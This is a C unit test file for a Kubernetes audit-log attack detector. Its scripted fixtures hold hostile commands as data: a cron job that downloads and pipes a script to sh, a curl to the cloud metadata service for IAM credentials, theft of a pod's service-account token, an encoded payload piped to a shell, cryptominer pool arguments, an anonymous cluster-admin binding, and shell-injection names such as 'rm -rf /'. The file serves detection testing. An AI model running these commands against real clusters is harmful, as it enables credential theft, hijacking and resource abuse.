#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <cmocka.h>

#include "detect/cluster/audit_story.h"

extern const struct record_detector cluster_detector;

static const struct story attacks[] = {
	{"anybody looks around, reads secrets, mines",
	 {{0, NOBODY, "203.0.113.5", "get", "", .uri = "/version"},
	  {1, NOBODY, "203.0.113.5", "list", "pods", .uri = "/api/v1/pods",
	   .why = ALL_OF("User \\\"system:anonymous\\\"")},
	  {2, NOBODY, "203.0.113.5", "list", "secrets"},
	  {3, NOBODY, "203.0.113.6", "get", "secrets", "billing", "aws"},
	  {4, NOBODY, "203.0.113.5", "create", "pods", "default", "xmr-0",
	   POD("'containers':[{'image':'docker.io/x/xmrig:6','args':['-o','stratum+tcp://"
	       "pool.example"
	       ":3333','-u','48EXAMPLE','--donate-level=1']}]")}},
	 "access secrets; exposure open to anybody; miner mining workload"},
	{"anybody, only health, version, discovery and what new nodes read",
	 {{0, NOBODY, "203.0.113.5", "get", "", .uri = "/healthz", .times = 300, .every = 3},
	  {0, NOBODY, "203.0.113.5", "get", "", .uri = "/livez?verbose", .times = 9},
	  {0, NOBODY, "203.0.113.5", "get", "", .uri = "/version?timeout=32s"},
	  {0, NOBODY, "203.0.113.5", "get", "", .uri = "readyz"},
	  {0, NOBODY, "203.0.113.5", "get", "", .uri = "/.well-known/openid-configuration"},
	  {0, NOBODY, "203.0.113.5", "get", "", .uri = "/apis?timeout=32s"},
	  {0, NOBODY, "203.0.113.5", "get", "configmaps", "kube-public", "cluster-info"},
	  {0, NOBODY, "203.0.113.5", "list", "componentstatuses"},
	  {0, NOBODY, "203.0.113.5", "list", "pods", .outcome = OUTCOME_DENIED, .times = 50}},
	 ""},
	{"the founding case: a console without a password",
	 {{0, CONSOLE, "10.0.0.9", "list", "pods", "shop"},
	  {1, CONSOLE, "10.0.0.9", "get", "secrets", "shop", "aws-telemetry",
	   .response =
		   "{'data':{'id':'QUtJQUlPU0ZPRE5ON0VYQU1QTEU=','key':'c2VjcmV0LWNhbmFyeQ=='}}"},
	  {60, CONSOLE, "10.0.0.9", "create", "daemonsets", "kube-system", "node-agent",
	   TEMPLATE("DaemonSet", HIDDEN)}},
	 "access secrets; exposure open console; signal keys in answers; suspect hidden workload"},
	{"the key is told where the pod is made, and who reads the pod has it",
	 {{0, "system:serviceaccount:kube-system:replicaset-controller", "10.0.0.2", "create",
	   "pods", "shop", "web-1",
	   POD("'containers':[{'image':'w','env':[{'name':'K','value':'AKIAIOSFODNN7EXAMPLE'}]}]")},
	  {60, CONSOLE, "203.0.113.9", "get", "pods", "shop", "web-1"},
	  {61, CONSOLE, "203.0.113.9", "get", "secrets", "shop", "a"}},
	 "access secrets; exposure open console"},
	{"no name at all: a stranger, and a shell nobody can read, on every node",
	 {{0, "kubernetes-admin", "198.51.100.7", "create", "daemonsets", "kube-system",
	   "node-agent", TEMPLATE("DaemonSet", HIDDEN)}},
	 "suspect hidden workload"},
	{"its pods, which a controller makes, are told with it",
	 {{0, "kubernetes-admin", "198.51.100.7", "create", "daemonsets", "kube-system",
	   "node-agent", TEMPLATE("DaemonSet", HIDDEN)},
	  {1, "system:serviceaccount:kube-system:daemon-set-controller", "10.0.0.2", "create",
	   "pods", "kube-system", "node-agent-%d", POD(HIDDEN), .times = 20}},
	 "suspect hidden workload"},
	{"who started it was not recorded: its pods are told, not the controller",
	 {{1, "system:serviceaccount:kube-system:daemon-set-controller", "10.0.0.2", "create",
	   "pods", "kube-system", "node-agent-%d",
	   "{'metadata':{'ownerReferences':[{'controller':true,'kind':'DaemonSet','name':'node-"
	   "agent'}"
	   "]},'spec':{" HIDDEN "}}",
	   .times = 20},
	  {1, "system:serviceaccount:kube-system:daemon-set-controller", "10.0.0.2", "create",
	   "pods", "kube-system", "other-%d", POD(AGENT("quay.io/cilium/cilium:v1.16")),
	   .times = 20},
	  {2, "system:kube-scheduler", "10.0.0.2", "create", "pods/binding", "kube-system",
	   "node-agent-0", "{'target':{'name':'n1'}}"},
	  {3, "system:node:n2", "10.0.0.2", "patch", "pods/status", "kube-system", "node-agent-%d",
	   "{'status':{'podIP':'10.7.0.9','podIPs':[{'ip':'10.7.0.9'},{'ip':'2001:db8::9'}]}}",
	   .times = 2}},
	 "suspect hidden workload"},
	{"a wallet and a login, under an innocent name, over a split list of arguments",
	 {{0, "ci", "198.51.100.7", "create", "deployments", "shop", "web",
	   TEMPLATE("Deployment",
		    "'containers':[{'image':'nginx','command':['/worker'],'args':['-o',"
		    "'203.0.113.9:443','-u','" WALLET "']}]")}},
	 "miner mining workload"},
	{"a wallet and a pool in variables",
	 {{0, "ci", "198.51.100.7", "patch", "statefulsets", "shop", "db",
	   TEMPLATE("StatefulSet",
		    "'containers':[{'image':'db','env':[{'name':'A','value':'stratum+"
		    "ssl://p.example:443'},{'name':'B','value':'" WALLET "'}]}]")}},
	 "miner mining workload"},
	{"a pool, and keys of a cloud beside it",
	 {{0, "ci", "198.51.100.7", "create", "jobs", "shop", "k",
	   TEMPLATE("Job",
		    "'containers':[{'image':'k','args':['stratum+tcp://p.example:1','--nicehash']"
		    ",'env':[{'name':'ID','value':'AKIAIOSFODNN7EXAMPLE'},{'name':'KEY','value':"
		    "'canary'}]}]")}},
	 "miner mining workload"},
	{"settings of a miner in a config map",
	 {{0, "ci", "198.51.100.7", "create", "configmaps", "shop", "settings",
	   "{'data':{'c.json':'{\\\"pools\\\":[{\\\"url\\\":\\\"p.example:443\\\",\\\"user\\\":"
	   "\\\"" WALLET "\\\"}],\\\"donate-level\\\":0}'}}"}},
	 "miner settings of a miner"},
	{"a stolen pod's token: probes, sweeps, then runs something encoded",
	 {{0, WEB, "203.0.113.8", "list", "secrets", "kube-system", .outcome = OUTCOME_DENIED},
	  {1, WEB, "203.0.113.8", "list", "nodes", .outcome = OUTCOME_DENIED},
	  {2, WEB, "203.0.113.8", "create", "clusterrolebindings", .outcome = OUTCOME_DENIED},
	  {3, WEB, "203.0.113.8", "list", "configmaps", .outcome = OUTCOME_DENIED},
	  {10, WEB, "203.0.113.8", "get", "secrets", "shop", "s-%d", .times = 7, .every = 4},
	  {60, WEB, "203.0.113.8", "create", "deployments", "shop", "cache",
	   TEMPLATE("Deployment",
		    "'containers':[{'image':'alpine','command':['sh','-c','echo aGVsbG8="
		    " | base64 -d | sh']}]")}},
	 "access probing; access secrets; suspect hidden workload"},
	{"a sweep of an operator's token from elsewhere than the operator",
	 {{0, WEB, "10.0.0.5", "watch", "secrets", .times = 9, .every = DAY},
	  {0, WEB, "10.0.0.5", "watch", "configmaps", .times = 9, .every = DAY},
	  {0, WEB, "10.0.0.5", "get", "secrets", "shop", "s-%d", .times = 40, .every = HOUR},
	  {9 * DAY, WEB, "203.0.113.8", "get", "secrets", "shop", "s-%d", .times = 9}},
	 "access secrets"},
	{"far more at once than it ever read, over days",
	 {{0, WEB, "10.0.0.5", "get", "secrets", "shop", "own", .times = 200, .every = HOUR},
	  {9 * DAY, WEB, "10.0.0.5", "get", "secrets", "kube-system", "s-%d", .times = 60}},
	 "access secrets"},
	{"a slow sweep: one secret in ten minutes",
	 {{0, WEB, "10.0.0.5", "get", "secrets", "shop", "s-%d", .times = 30, .every = 660}},
	 "access secrets"},
	{"a sweep over the edge of two windows",
	 {{595, WEB, "10.0.0.5", "get", "secrets", "shop", "s-%d", .times = 6, .every = 2}},
	 "access secrets"},
	{"tokens made for other accounts",
	 {{0, WEB, "10.0.0.5", "create", "serviceaccounts/token", "kube-system", "c-%d",
	   .times = 6}},
	 "access secrets"},
	{"a pod's account with a person's tool: the secrets of all namespaces",
	 {{0, WEB, "10.0.0.5", "list", "secrets", .agent = "kubectl/v1.30"}},
	 "access secrets"},
	{"a pod's account from outside: the secrets of all namespaces",
	 {{0, WEB, "203.0.113.8", "list", "secrets", .agent = "web/1"}},
	 "access secrets"},
	{"a command that is only in the body: it steals the pod's token",
	 {{0, "dev", "198.51.100.7", "create", "pods/exec", "shop", "web-1",
	   "{'command':['cat','/var/run/secrets/kubernetes.io/serviceaccount/token']}"}},
	 "signal command in a pod"},
	{"a command that asks the metadata service for credentials",
	 {{0, "dev", "198.51.100.7", "create", "pods/exec", "shop", "web-1",
	   .uri = "/api/v1/namespaces/shop/pods/web-1/"
		  "exec?command=sh&command=-c&command=curl+http%3A"
		  "%2F%2F2852039166%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F&stdout="
		  "true"}},
	 "access metadata service"},
	{"a command that mines",
	 {{0, "dev", "198.51.100.7", "get", "pods/exec", "shop", "web-1",
	   .uri = "/api/v1/namespaces/shop/pods/web-1/exec?command=%2Ftmp%2Fx&command=-o&command="
		  "stratum%2Btcp%3A%2F%2Fp.example%3A1&command=--donate-level&command=1"}},
	 "miner mining command"},
	{"a binding for anybody, before anybody uses it",
	 {{0, "admin", "198.51.100.7", "create", "clusterrolebindings", NULL, "open",
	   GRANT("system:unauthenticated")}},
	 "exposure open to anybody; signal rights"},
	{"a console served to the internet",
	 {{0, "admin", "198.51.100.7", "create", "services", "kubernetes-dashboard", "lb",
	   "{'spec':{'type':'LoadBalancer','selector':{'k8s-app':'kubernetes-dashboard'}}}"}},
	 "exposure console to the outside"},
	{"traces: events deleted",
	 {{0, "dev", "198.51.100.7", "deletecollection", "events", "shop"}},
	 "signal deleted events"},
	{"a webhook, a certificate, a node's own interface",
	 {{0, "dev", "198.51.100.7", "create", "mutatingwebhookconfigurations", NULL, "w"},
	  {1, "dev", "198.51.100.7", "update", "certificatesigningrequests/approval", NULL, "c",
	   "{'spec':{'signerName':'kubernetes.io/kube-apiserver-client'}}"},
	  {2, "dev", "198.51.100.7", "create", "nodes/proxy", NULL, "n1",
	   .uri = "/api/v1/nodes/n1/proxy/run/shop/web-1/web?cmd=id"}},
	 "signal certificates; signal node proxy; signal watchers"},
	{"every night it downloads and runs",
	 {{0, "dev", "198.51.100.7", "create", "cronjobs", "shop", "tidy",
	   CRON("'containers':[{'image':'alpine','command':['sh','-c','wget -qO- "
		"http://203.0.113.9/a"
		"|sh']}]")}},
	 "signal workload"},
	{"a component's name from the open internet is none",
	 {{0, "system:kube-controller-manager", "203.0.113.9", "get", "secrets", "shop", "s-%d",
	   .times = 12}},
	 "access secrets"},
	{"two clusters are two",
	 {{0, NOBODY, "203.0.113.5", "list", "pods", .cluster = "c1"},
	  {0, NOBODY, "203.0.113.5", "list", "pods", .cluster = "c2"}},
	 "exposure open to anybody; exposure open to anybody"},
};

static void attacks_are_told(void **state)
{
	stories_run(attacks, sizeof(attacks) / sizeof(*attacks));
}

/* -- what is in a finding -- */

static const struct story *attack(const char *name)
{
	for (size_t i = 0; i < sizeof(attacks) / sizeof(*attacks); i++)
		if (strncmp(attacks[i].name, name, strlen(name)) == 0)
			return &attacks[i];
	fail_msg("no story %s", name);
	return NULL;
}

static void has_all(const struct story *story, const char *const *texts)
{
	static struct told told;
	CLEANUP(buf_fini) struct buf all = story_run(story, IN_ORDER, 0, &told);

	for (; *texts; texts++)
		if (str_find(buf_view(&all), str_from(*texts)) < 0)
			fail_msg("%s: not told: %s\n%.*s", story->name, *texts,
				 STR_ARG(buf_view(&all)));
	assert_true(str_find(buf_view(&all), STR("canary")) < 0);
	assert_true(str_find(buf_view(&all), STR("c2VjcmV0")) < 0);
}

static void what_others_join_on_is_there(void **state)
{
	static const char *const console[] = {
		"\"identity\":\"" CONSOLE "\"",
		"\"source\":\"10.0.0.9\"",
		"\"secrets\":[\"shop/aws-telemetry\"]",
		"\"key_ids\":[\"AKIAIOSFODNN7EXAMPLE\"]",
		"\"namespace\":\"kube-system\"",
		"\"image\":\"registry.example.net/node-agent:2\"",
		"\"T1610\"",
		"kubectl -n kube-system patch daemonset node-agent --type merge -p",
		"aws iam update-access-key",
		"it runs on every node",
		"it read secrets, once (get secrets shop/aws-telemetry)",
		"it started or changed workloads, once (create daemonsets kube-system/node-agent)",
		NULL};
	static const char *const anybody[] = {
		"kubectl delete clusterrolebinding open",
		"kubectl create clusterrolebinding open --clusterrole=cluster-admin --user=system:"
		"anonymous",
		"\"pod\":\"xmr-0\"",
		"its command names a pool: pool.example:3333",
		"kubectl -n default label --overwrite pod xmr-0 davy-isolated=true",
		"kubectl -n default label pod xmr-0 davy-isolated-",
		NULL};

	static const char *const keys[] = {"\"key_ids\":[\"AKIAIOSFODNN7EXAMPLE\"]", NULL};

	static const char *const pods[] = {"\"subject\":{\"type\":\"workload\",\"cluster\":\"c1\"",
					   "\"addresses\":[\"10.7.0.9\",\"2001:db8::9\"]",
					   "\"pods\":[\"node-agent-",
					   "\"nodes\":[\"n2\"]",
					   "kubectl -n kube-system patch daemonset node-agent",
					   NULL};

	has_all(attack("the key is told where the pod"), keys);
	has_all(attack("who started it was not recorded"), pods);
	has_all(attack("a pool, and keys"), keys);
	has_all(attack("the founding case"), console);
	has_all(attack("anybody looks around"), anybody);
}

/* Names are whatever the API server takes, and a namespace in a record is whatever a record says.
 */
static void commands_are_quoted_for_a_shell(void **state)
{
	static const struct story story = {
		"quotes",
		{{0, "x'; rm -rf /", "203.0.113.9", "create", "deployments", "a'; reboot #",
		  "b\n$(id)",
		  TEMPLATE("Deployment", "'replicas':2,'containers':[{'image':'x','args':['-o',"
					 "'stratum+tcp://p.example:1','--donate-level=1']}]")}},
		""};
	static struct told told;
	CLEANUP(buf_fini) struct buf all = story_run(&story, IN_ORDER, 0, &told);
	struct str text = buf_view(&all);

	assert_int_equal(told.count, 1);
	assert_true(str_find(text, STR("kubectl -n 'a'\\\\''; reboot #' scale deployment "
				       "$'b\\\\012$(id)' --replicas=0")) >= 0);
}

/* A request in two stages is one, and one that was chosen the same audit id is another. */
static void stages_are_one_request_and_ids_may_be_forged(void **state)
{
	const struct record_settings settings = {.seed = 1, .capacity = 64};
	static struct act_text text;
	static struct told told;
	void *memory = NULL;
	struct step step = {.at = 5,
			    .user = NOBODY,
			    .from = "203.0.113.9",
			    .verb = "create",
			    .what = "pods/exec",
			    .namespace = "shop",
			    .name = "web-%d",
			    .uri = "/x?command=id"};

	assert_int_equal(cluster_detector.create(&settings, &memory), 0);
	for (int i = 0; i < 3; i++) {
		story_make_act(&step, i, 1, &text);
		text.record.id = STR("same/ResponseStarted");
		cluster_detector.observe(memory, &text.record);
		text.record.id = STR("same/ResponseComplete");
		cluster_detector.observe(memory, &text.record);
	}
	CLEANUP(buf_fini) struct buf all = story_report(memory, &told);
	cluster_detector.destroy(memory);
	assert_true(str_find(buf_view(&all), STR("reached into pods or nodes, 3 times")) >= 0);
}

/* -- floods -- */

static void flood(void *state, uint32_t from, uint32_t to)
{
	static struct act_text text;
	static char user[64], name[64];
	static const char *const verbs[] = {"get", "get", "list", "create"};
	static const char *const whats[] = {"secrets", "nodes", "secrets", "pods"};
	struct step step = {.from = "203.0.113.77", .user = user, .namespace = "junk"};

	for (uint32_t i = from; i < to; i++) {
		snprintf(user, sizeof(user), "junk-%u", i);
		snprintf(name, sizeof(name), "thing-%u", i);
		step.verb = verbs[i % 4];
		step.what = whats[i % 4];
		step.name = i % 4 == 2 ? NULL : name;
		step.at = (int)(i / 4);
		step.outcome = i % 4 == 1 ? OUTCOME_DENIED : OUTCOME_DONE;
		story_make_act(&step, 0, (int)i, &text);
		cluster_detector.observe(state, &text.record);
	}
}

static void a_million_strangers_push_nothing_out(void **state)
{
	enum { JUNK = 1000 * 1000 };
	const struct record_settings settings = {.seed = 3, .capacity = 2048};
	const struct story *story = attack("a stolen pod's token");
	static struct list list;
	static struct told told;
	void *memory = NULL;
	char text[1024];

	story_unfold(story, &list);
	assert_int_equal(cluster_detector.create(&settings, &memory), 0);
	flood(memory, 0, JUNK / 2);
	story_observe_all(memory, &list);
	flood(memory, JUNK / 2, JUNK);
	CLEANUP(buf_fini) struct buf all = story_report(memory, &told);
	cluster_detector.destroy(memory);
	story_brief(&told, text, sizeof(text));
	if (!strstr(text, "suspect hidden workload") || !strstr(text, "access secrets"))
		fail_msg("told: %s", text);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(attacks_are_told),
		cmocka_unit_test(what_others_join_on_is_there),
		cmocka_unit_test(commands_are_quoted_for_a_shell),
		cmocka_unit_test(stages_are_one_request_and_ids_may_be_forged),
		cmocka_unit_test(a_million_strangers_push_nothing_out),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
